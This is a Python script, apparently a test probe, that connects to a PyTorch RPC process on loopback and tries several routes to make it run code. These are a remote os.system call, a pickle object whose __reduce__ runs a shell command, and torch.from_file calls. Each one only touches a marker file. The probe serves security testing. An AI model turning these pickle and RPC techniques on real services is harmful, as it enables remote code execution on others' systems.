"""A peer with torch's own RPC agent and pickle codec: ``stock_rpc.py PORT MARK``.

Tries to have MARK made by the process that listens on PORT of loopback, in every way that RPC has; one line on
standard output for each.
"""

from __future__ import annotations

import os
import sys

import torch
import torch.distributed as dist
import torch.distributed.autograd as dist_autograd
import torch.distributed.rpc as rpc
from torch.distributed.rpc import api


class Trap:
    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self.mark}",)


def main() -> None:
    port, mark = sys.argv[1:]
    os.environ["TP_SOCKET_IFNAME"] = "lo"
    store = dist.HashStore()
    options = rpc.TensorPipeRpcBackendOptions(rpc_timeout=5, _transports=["uv"], _channels=["basic"])
    dist_autograd._init(0)
    agent = rpc.TensorPipeAgent(store, "stranger", 0, None, options, {}, [])
    api._init_rpc_states(agent)
    store.set("addrs/victim", f"uv://127.0.0.1:{port}")
    agent._update_group_membership(rpc.WorkerInfo("victim", 1), [], {}, True)
    attempts = {
        "call": lambda: rpc.rpc_sync("victim", os.system, (f"touch {mark}-call",)),
        "argument": lambda: rpc.rpc_sync("victim", len, (Trap(f"{mark}-argument"),)),
        "builtin": lambda: rpc.rpc_sync("victim", torch.from_file, (f"{mark}-builtin", True, 8)),
        "remote builtin": lambda: rpc.remote("victim", torch.from_file, (f"{mark}-remote-builtin", True, 8)).to_here(),
        "remote": lambda: rpc.remote("victim", os.system, (f"touch {mark}-remote",)).to_here(),
    }
    for name, attempt in attempts.items():
        try:
            print(name, "succeeded:", attempt(), flush=True)
        except Exception as error:
            print(name, "failed:", type(error).__name__, str(error).replace("\n", " "), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
